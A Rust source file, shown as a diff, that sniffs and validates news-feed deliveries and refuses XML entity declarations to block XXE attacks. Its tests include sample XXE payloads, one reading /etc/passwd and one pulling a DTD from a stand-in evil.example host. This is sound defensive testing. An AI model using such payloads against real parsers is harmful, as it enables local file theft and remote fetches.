@@ -1,0 +1,633 @@
+//! From bytes to text, and from text to a format.
+//!
+//! Owns: the refusals that apply to every format (size, binary, encoding, blank), the XML
+//! prolog checks (entity declarations are refused here, before any XML parser sees the file),
+//! and picking the decoder by content.
+//! Must not: decode items, or look at anything but the bytes (no file names, no MIME types).
+
+use std::borrow::Cow;
+
+use serde_json::{Map, Value};
+
+use crate::{DecodeError, Format, MAX_DELIVERY_BYTES};
+
+/// What the content turned out to be, with what was learnt on the way so nothing is parsed twice.
+#[derive(Debug)]
+pub(crate) enum Sniffed {
+    PlainText,
+    Ninjs(Value),
+    JsonFeed,
+    /// `root` is the byte offset of the root element's `<` in the text.
+    Xml {
+        format: Format,
+        root: usize,
+    },
+}
+
+impl Sniffed {
+    pub(crate) fn format(&self) -> Format {
+        match self {
+            Sniffed::PlainText => Format::PlainText,
+            Sniffed::Ninjs(_) => Format::Ninjs,
+            Sniffed::JsonFeed => Format::JsonFeed,
+            Sniffed::Xml { format, .. } => *format,
+        }
+    }
+}
+
+const UTF8_BOM: &[u8] = b"\xEF\xBB\xBF";
+
+/// "7.2 MB" for a size, precise enough never to print the same figure as the limit it broke.
+pub(crate) fn human_size(size: usize, limit: usize) -> String {
+    const MB: f64 = 1024.0 * 1024.0;
+    let fmt = |n: usize| {
+        let text = format!("{:.1}", n as f64 / MB);
+        text.strip_suffix(".0").map(str::to_string).unwrap_or(text)
+    };
+    if size != limit && fmt(size) == fmt(limit) {
+        format!("{size} bytes")
+    } else {
+        format!("{} MB", fmt(size))
+    }
+}
+
+/// The delivery as text: UTF-8 (a BOM dropped) or UTF-16 with a BOM, transcoded.
+pub(crate) fn to_text(bytes: &[u8]) -> Result<Cow<'_, str>, DecodeError> {
+    if bytes.len() > MAX_DELIVERY_BYTES {
+        return Err(DecodeError::TooLarge {
+            size: bytes.len(),
+            limit: MAX_DELIVERY_BYTES,
+        });
+    }
+    if bytes.is_empty() {
+        return Err(DecodeError::Empty);
+    }
+    let text = match bytes {
+        [0xFF, 0xFE, rest @ ..] => Cow::Owned(from_utf16(rest, u16::from_le_bytes)?),
+        [0xFE, 0xFF, rest @ ..] => Cow::Owned(from_utf16(rest, u16::from_be_bytes)?),
+        _ => {
+            let skip = if bytes.starts_with(UTF8_BOM) { 3 } else { 0 };
+            let body = &bytes[skip..];
+            if let Some(i) = body.iter().position(|&b| b == 0) {
+                return Err(DecodeError::Binary {
+                    offset: skip + i,
+                    note: utf16_hint(body).into(),
+                });
+            }
+            match std::str::from_utf8(body) {
+                Ok(s) => Cow::Borrowed(s),
+                Err(e) => {
+                    return Err(DecodeError::InvalidUtf8 {
+                        offset: skip + e.valid_up_to(),
+                        note: declared_encoding_note(body),
+                    });
+                }
+            }
+        }
+    };
+    if text.trim().is_empty() {
+        return Err(DecodeError::Blank);
+    }
+    Ok(text)
+}
+
+fn from_utf16(bytes: &[u8], unit: fn([u8; 2]) -> u16) -> Result<String, DecodeError> {
+    if !bytes.len().is_multiple_of(2) {
+        return Err(DecodeError::InvalidUtf16 {
+            reason: format!(
+                "odd number of bytes ({}) after the byte-order mark; the file looks truncated",
+                bytes.len() + 2
+            ),
+        });
+    }
+    let units: Vec<u16> = bytes
+        .chunks_exact(2)
+        .map(|pair| unit([pair[0], pair[1]]))
+        .collect();
+    if let Some(i) = units.iter().position(|&u| u == 0) {
+        return Err(DecodeError::Binary {
+            offset: 2 + 2 * i,
+            note: String::new(),
+        });
+    }
+    let mut out = String::with_capacity(units.len());
+    let mut offset = 2;
+    for c in char::decode_utf16(units.iter().copied()) {
+        match c {
+            Ok(c) => {
+                offset += 2 * c.len_utf16();
+                out.push(c);
+            }
+            Err(e) => {
+                return Err(DecodeError::InvalidUtf16 {
+                    reason: format!(
+                        "unpaired surrogate 0x{:04X} at byte {offset}",
+                        e.unpaired_surrogate()
+                    ),
+                });
+            }
+        }
+    }
+    Ok(out)
+}
+
+/// UTF-16 without a BOM shows as ASCII with a NUL beside every letter; say so, as that is
+/// fixable at the sender, where "binary" alone would send the desk looking for an image.
+fn utf16_hint(bytes: &[u8]) -> &'static str {
+    let head = &bytes[..bytes.len().min(64)];
+    let (even, odd) = head.iter().enumerate().fold((0, 0), |(e, o), (i, &b)| {
+        if b == 0 {
+            if i % 2 == 0 { (e + 1, o) } else { (e, o + 1) }
+        } else {
+            (e, o)
+        }
+    });
+    if head.len() >= 8 && (even * 2 >= head.len() - 2 || odd * 2 >= head.len() - 2) {
+        "; it looks like UTF-16 without a byte-order mark"
+    } else {
+        ""
+    }
+}
+
+/// Legacy feeds declare their 8-bit encoding; naming it tells the sender what to change.
+fn declared_encoding_note(bytes: &[u8]) -> String {
+    let head = &bytes[..bytes.len().min(200)];
+    let Some(decl_end) = head.windows(2).position(|w| w == b"?>") else {
+        return String::new();
+    };
+    let decl = String::from_utf8_lossy(&head[..decl_end]);
+    if !decl.trim_start().starts_with("<?xml") {
+        return String::new();
+    }
+    match pseudo_attribute(&decl, "encoding") {
+        Some(enc) if !enc.eq_ignore_ascii_case("utf-8") => format!(
+            " (the XML declares encoding {enc}; only UTF-8, or UTF-16 with a byte-order mark, is \
+             accepted)"
+        ),
+        _ => String::new(),
+    }
+}
+
+fn pseudo_attribute<'a>(decl: &'a str, name: &str) -> Option<&'a str> {
+    let at = decl.find(name)?;
+    let rest = decl[at + name.len()..].trim_start().strip_prefix('=')?;
+    let rest = rest.trim_start();
+    let quote = rest.chars().next().filter(|c| *c == '"' || *c == '\'')?;
+    let rest = &rest[1..];
+    rest.find(quote).map(|end| &rest[..end])
+}
+
+pub(crate) fn sniff_text(text: &str) -> Result<Sniffed, DecodeError> {
+    let start = text.len() - text.trim_start().len();
+    match text[start..].chars().next() {
+        Some('{') | Some('[') => sniff_json(&text[start..]),
+        Some('<') => sniff_xml(text, start),
+        _ => {
+            check_plain_text(text)?;
+            Ok(Sniffed::PlainText)
+        }
+    }
+}
+
+/// Header names that open an e-mail message (RFC 5322) but never a line of agency copy.
+const MAIL_HEADERS: &[&str] = &[
+    "received",
+    "return-path",
+    "delivered-to",
+    "from",
+    "to",
+    "subject",
+    "date",
+    "message-id",
+    "mime-version",
+    "content-type",
+    "x-original-to",
+    "reply-to",
+    "dkim-signature",
+    "cc",
+];
+
+/// An e-mail file would otherwise decode with "Received: from …" as its headline.
+fn is_email(text: &str) -> bool {
+    let header = |line: &str| {
+        line.split_once(':')
+            .is_some_and(|(name, _)| MAIL_HEADERS.iter().any(|h| name.eq_ignore_ascii_case(h)))
+    };
+    let mut lines = text.lines().skip_while(|l| l.trim().is_empty()).take(30);
+    lines.next().is_some_and(header) && lines.filter(|l| header(l)).count() >= 2
+}
+
+fn check_plain_text(text: &str) -> Result<(), DecodeError> {
+    if is_email(text) {
+        return Err(DecodeError::Email);
+    }
+    // Tab, newline, carriage return and form feed occur in honest copy; any other C0 control
+    // is transmission framing that would end up in the headline.
+    match text
+        .bytes()
+        .enumerate()
+        .find(|(_, b)| b.is_ascii_control() && !matches!(b, b'\t' | b'\n' | b'\r' | 0x0C | 0x7F))
+    {
+        Some((offset, byte)) => Err(DecodeError::ControlCharacter { byte, offset }),
+        None => Ok(()),
+    }
+}
+
+pub(crate) fn json_error(e: serde_json::Error) -> DecodeError {
+    if e.is_eof() {
+        DecodeError::TruncatedJson {
+            line: e.line(),
+            column: e.column(),
+        }
+    } else {
+        DecodeError::MalformedJson {
+            reason: e.to_string(),
+        }
+    }
+}
+
+fn sniff_json(text: &str) -> Result<Sniffed, DecodeError> {
+    let value: Value = serde_json::from_str(text).map_err(json_error)?;
+    let unknown = |detail: &str| DecodeError::UnknownJson {
+        detail: detail.to_string(),
+    };
+    match &value {
+        Value::Object(map) => match classify(map)? {
+            JsonKind::Ninjs => Ok(Sniffed::Ninjs(value)),
+            JsonKind::JsonFeed => Ok(Sniffed::JsonFeed),
+        },
+        // A batch of ninjs items; JSON Feed is always an object, so only ninjs can be meant.
+        Value::Array(list) if list.is_empty() => Err(unknown("an empty JSON array")),
+        Value::Array(list) => {
+            let mut first_error = None;
+            for item in list {
+                match item {
+                    Value::Object(map) => match classify(map) {
+                        Ok(JsonKind::Ninjs) => return Ok(Sniffed::Ninjs(value)),
+                        Ok(JsonKind::JsonFeed) => {}
+                        Err(e) => {
+                            first_error.get_or_insert(e);
+                        }
+                    },
+                    _ => {
+                        first_error.get_or_insert(unknown("an array element is not an object"));
+                    }
+                }
+            }
+            Err(match first_error {
+                Some(DecodeError::UnknownJson { detail }) => {
+                    unknown(&format!("a JSON array with no ninjs item in it ({detail})"))
+                }
+                Some(other) => other,
+                None => unknown("a JSON array of JSON Feeds; send one feed per file"),
+            })
+        }
+        _ => Err(unknown("a bare JSON value, not an object")),
+    }
+}
+
+enum JsonKind {
+    Ninjs,
+    JsonFeed,
+}
+
+fn classify(map: &Map<String, Value>) -> Result<JsonKind, DecodeError> {
+    if let Some(Value::String(version)) = map.get("version")
+        && (version.starts_with("https://jsonfeed.org/version/")
+            || version.starts_with("http://jsonfeed.org/version/"))
+    {
+        return Ok(JsonKind::JsonFeed);
+    }
+    let id = ["uri", "guid"].iter().find_map(|k| match map.get(*k) {
+        Some(Value::String(s)) if !s.trim().is_empty() => Some(s.trim()),
+        _ => None,
+    });
+    let has_content = map.keys().any(|k| {
+        matches!(k.as_str(), "headline" | "headlines" | "bodies") || k.starts_with("body_")
+    });
+    let unknown = |detail: &str| DecodeError::UnknownJson {
+        detail: detail.to_string(),
+    };
+    match (id, has_content) {
+        (Some(_), true) => Ok(JsonKind::Ninjs),
+        // ninjs 3 also carries events and planning; they are not stories to publish.
+        (Some(uri), false)
+            if map.contains_key("eventDetails")
+                || map.contains_key("plannedCoverage")
+                || matches!(map.get("type"), Some(Value::String(t)) if t == "event" || t == "planning") =>
+        {
+            Err(DecodeError::Ninjs {
+                reason: format!(
+                    "item {uri} is an event or planning item, not a story (it has no headline)"
+                ),
+            })
+        }
+        (Some(_), false) => Err(unknown("missing `headline`/`headlines`")),
+        _ if map.contains_key("items") => Err(unknown(
+            "looks like a JSON Feed, but `version` is not a https://jsonfeed.org/version/ URL",
+        )),
+        (None, true) => Err(unknown("missing `uri`/`guid`")),
+        (None, false) => Err(unknown("missing `uri`/`guid` and `headline`/`headlines`")),
+    }
+}
+
+/// Walks the prolog (declaration, comments, processing instructions, DOCTYPE) to the root tag.
+fn sniff_xml(text: &str, start: usize) -> Result<Sniffed, DecodeError> {
+    let malformed = |reason: &str| DecodeError::MalformedXml {
+        reason: reason.to_string(),
+    };
+    let mut at = start;
+    loop {
+        let rest = &text[at..];
+        let trimmed = rest.trim_start();
+        at += rest.len() - trimmed.len();
+        let rest = trimmed;
+        if rest.is_empty() {
+            return Err(malformed(
+                "no root element after the XML declaration (truncated?)",
+            ));
+        } else if rest.starts_with("<?") {
+            let end = rest
+                .find("?>")
+                .ok_or_else(|| malformed("truncated: a <?…?> instruction never closes"))?;
+            at += end + 2;
+        } else if rest.starts_with("<!--") {
+            let end = rest
+                .find("-->")
+                .ok_or_else(|| malformed("truncated: a comment before the root never closes"))?;
+            at += end + 3;
+        } else if starts_with_ignore_case(rest, "<!DOCTYPE") {
+            let end = doctype_len(rest)?;
+            if contains_ignore_case(&rest[..end], "<!ENTITY") {
+                return Err(DecodeError::XmlEntities);
+            }
+            at += end;
+        } else if rest.starts_with("<!") {
+            // <!ENTITY or <!ELEMENT outside a DOCTYPE is not XML; refuse it the same way so a
+            // lenient parser downstream never gets to interpret it.
+            if starts_with_ignore_case(rest, "<!ENTITY") {
+                return Err(DecodeError::XmlEntities);
+            }
+            return Err(malformed("unexpected <! markup before the root element"));
+        } else if let Some(tag) = rest.strip_prefix('<') {
+            let name_len = tag
+                .find(|c: char| c.is_whitespace() || c == '>' || c == '/')
+                .unwrap_or(tag.len());
+            let name = &tag[..name_len];
+            if name.is_empty() || !name.starts_with(|c: char| c.is_alphabetic() || c == '_') {
+                return Err(malformed("the root tag has no element name"));
+            }
+            let local = name.rsplit(':').next().unwrap_or(name);
+            let format = match local {
+                "rss" | "RDF" => Format::Rss,
+                "feed" => Format::Atom,
+                _ if local.eq_ignore_ascii_case("html") => return Err(DecodeError::HtmlPage),
+                _ => {
+                    return Err(DecodeError::UnsupportedXml {
+                        root: name.chars().take(80).collect(),
+                    });
+                }
+            };
+            return Ok(Sniffed::Xml { format, root: at });
+        } else {
+            return Err(malformed("text before the root element"));
+        }
+    }
+}
+
+/// Length of `<!DOCTYPE …>`, internal subset `[…]` included.
+fn doctype_len(rest: &str) -> Result<usize, DecodeError> {
+    let truncated = || DecodeError::MalformedXml {
+        reason: "truncated: the DOCTYPE never closes".into(),
+    };
+    let bytes = rest.as_bytes();
+    let mut quote = None;
+    let mut i = 0;
+    while i < bytes.len() {
+        let b = bytes[i];
+        match quote {
+            Some(q) if b == q => quote = None,
+            Some(_) => {}
+            None => match b {
+                b'"' | b'\'' => quote = Some(b),
+                b'>' => return Ok(i + 1),
+                b'[' => {
+                    // Entity declarations live in the internal subset. Refuse any document
+                    // whose subset-and-after mentions one, rather than parse the subset, so no
+                    // quoting trick can hide a declaration from this check.
+                    let subset = &rest[i..];
+                    if contains_ignore_case(subset, "<!ENTITY") {
+                        return Err(DecodeError::XmlEntities);
+                    }
+                    let mut from = 0;
+                    loop {
+                        let close = from + subset[from..].find(']').ok_or_else(truncated)?;
+                        let after = &subset[close + 1..];
+                        let gap = after.len() - after.trim_start().len();
+                        if after[gap..].starts_with('>') {
+                            return Ok(i + close + 1 + gap + 1);
+                        }
+                        from = close + 1;
+                    }
+                }
+                _ => {}
+            },
+        }
+        i += 1;
+    }
+    Err(truncated())
+}
+
+fn starts_with_ignore_case(s: &str, prefix: &str) -> bool {
+    s.get(..prefix.len())
+        .is_some_and(|head| head.eq_ignore_ascii_case(prefix))
+}
+
+fn contains_ignore_case(haystack: &str, needle: &str) -> bool {
+    haystack
+        .as_bytes()
+        .windows(needle.len())
+        .any(|w| w.eq_ignore_ascii_case(needle.as_bytes()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn format_of(text: &str) -> Result<Format, DecodeError> {
+        sniff_text(text).map(|s| s.format())
+    }
+
+    #[test]
+    fn the_prolog_is_walked_to_the_root_element() {
+        let rss = "\n<?xml version=\"1.0\"?>\n<!-- a comment -->\n<?xml-stylesheet href=\"a.xsl\"?>\n<!DOCTYPE rss PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\" \"http://my.netscape.com/publish/formats/rss-0.91.dtd\">\n<rss version=\"0.91\">";
+        assert_eq!(format_of(rss), Ok(Format::Rss));
+        assert_eq!(format_of("<rdf:RDF xmlns:rdf=\"x\">"), Ok(Format::Rss));
+        assert_eq!(
+            format_of("<feed xmlns=\"http://www.w3.org/2005/Atom\">"),
+            Ok(Format::Atom)
+        );
+        assert_eq!(format_of("<atom:feed xmlns:atom=\"x\">"), Ok(Format::Atom));
+        let Ok(Sniffed::Xml { root, .. }) = sniff_text("  <?xml version=\"1.0\"?><feed/>") else {
+            panic!("not XML");
+        };
+        assert_eq!(root, 23);
+    }
+
+    #[test]
+    fn every_spelling_of_an_entity_declaration_is_refused() {
+        for doc in [
+            r#"<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><rss version="2.0"/>"#,
+            r#"<!doctype x [<!entity e "x">]><rss/>"#,
+            r#"<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><feed/>"#,
+            r#"<!DOCTYPE x SYSTEM "a>b" [<!ENTITY e "x">]><feed/>"#,
+            r#"<!DOCTYPE x [<!ATTLIST a b CDATA "]>"><!ENTITY e "x">]><feed/>"#,
+            r#"<?xml version="1.0"?><!ENTITY e "x"><feed/>"#,
+        ] {
+            assert_eq!(format_of(doc), Err(DecodeError::XmlEntities), "{doc}");
+        }
+    }
+
+    #[test]
+    fn a_doctype_without_entities_is_allowed() {
+        assert_eq!(
+            format_of("<!DOCTYPE rss [<!ELEMENT rss ANY>]>\n<rss version=\"2.0\">"),
+            Ok(Format::Rss)
+        );
+    }
+
+    #[test]
+    fn entity_text_inside_the_document_is_not_a_declaration() {
+        let rss = "<rss version=\"2.0\"><channel><item><description><![CDATA[<!ENTITY is XML syntax]]></description></item></channel></rss>";
+        assert_eq!(format_of(rss), Ok(Format::Rss));
+    }
+
+    #[test]
+    fn unknown_and_broken_xml_is_named() {
+        assert_eq!(
+            format_of("<nitf><head/></nitf>"),
+            Err(DecodeError::UnsupportedXml {
+                root: "nitf".into()
+            })
+        );
+        assert_eq!(
+            format_of("<!DOCTYPE html>\n<html lang=\"en\">"),
+            Err(DecodeError::HtmlPage)
+        );
+        for (doc, reason) in [
+            (
+                "<?xml version=\"1.0\"",
+                "truncated: a <?…?> instruction never closes",
+            ),
+            (
+                "<?xml version=\"1.0\"?>\n",
+                "no root element after the XML declaration (truncated?)",
+            ),
+            (
+                "<!DOCTYPE x [<!ELEMENT x ANY>",
+                "truncated: the DOCTYPE never closes",
+            ),
+            (
+                "<!-- never closed",
+                "truncated: a comment before the root never closes",
+            ),
+            (
+                "<?xml version=\"1.0\"?>junk<rss/>",
+                "text before the root element",
+            ),
+            ("< rss>", "the root tag has no element name"),
+        ] {
+            assert_eq!(
+                format_of(doc),
+                Err(DecodeError::MalformedXml {
+                    reason: reason.into()
+                }),
+                "{doc}"
+            );
+        }
+    }
+
+    #[test]
+    fn json_is_told_apart_by_its_keys() {
+        assert_eq!(
+            format_of(r#"{"version": "https://jsonfeed.org/version/1.1", "items": []}"#),
+            Ok(Format::JsonFeed)
+        );
+        assert_eq!(
+            format_of(r#"{"uri": "urn:x", "bodies": []}"#),
+            Ok(Format::Ninjs)
+        );
+        assert_eq!(
+            format_of(r#"{"guid": "urn:x", "body_html": "<p/>"}"#),
+            Ok(Format::Ninjs)
+        );
+        assert_eq!(
+            format_of(r#"[{"uri": "urn:x", "headline": "h"}]"#),
+            Ok(Format::Ninjs)
+        );
+        for (doc, detail) in [
+            (r#"{"headline": "h"}"#, "missing `uri`/`guid`"),
+            (
+                r#"{"title": "t"}"#,
+                "missing `uri`/`guid` and `headline`/`headlines`",
+            ),
+            (
+                r#"{"version": "1", "items": []}"#,
+                "looks like a JSON Feed, but `version` is not a https://jsonfeed.org/version/ URL",
+            ),
+            ("[]", "an empty JSON array"),
+            (
+                "[1]",
+                "a JSON array with no ninjs item in it (an array element is not an object)",
+            ),
+        ] {
+            assert_eq!(
+                format_of(doc),
+                Err(DecodeError::UnknownJson {
+                    detail: detail.into()
+                }),
+                "{doc}"
+            );
+        }
+    }
+
+    #[test]
+    fn broken_json_says_whether_it_was_cut_off() {
+        assert_eq!(
+            format_of("{\"uri\": \"urn:x\",\n \"headline\": \"h"),
+            Err(DecodeError::TruncatedJson {
+                line: 2,
+                column: 15
+            })
+        );
+        assert!(matches!(
+            format_of("{\"uri\": \"urn:x\" \"headline\": 1}"),
+            Err(DecodeError::MalformedJson { .. })
+        ));
+    }
+
+    #[test]
+    fn sizes_are_shown_so_that_they_differ_from_the_limit() {
+        assert_eq!(
+            human_size(MAX_DELIVERY_BYTES * 36 / 25, MAX_DELIVERY_BYTES),
+            "7.2 MB"
+        );
+        assert_eq!(
+            human_size(MAX_DELIVERY_BYTES + 1, MAX_DELIVERY_BYTES),
+            "5242881 bytes"
+        );
+        assert_eq!(human_size(MAX_DELIVERY_BYTES, MAX_DELIVERY_BYTES), "5 MB");
+    }
+
+    #[test]
+    fn a_delivery_of_exactly_the_limit_is_read_and_one_byte_more_is_not() {
+        let mut bytes = b"Headline\n\n".to_vec();
+        bytes.resize(MAX_DELIVERY_BYTES, b'a');
+        assert!(to_text(&bytes).is_ok());
+        bytes.push(b'a');
+        assert_eq!(
+            to_text(&bytes).unwrap_err().to_string(),
+            "file is 5242881 bytes; the limit is 5 MB"
+        );
+    }
+}
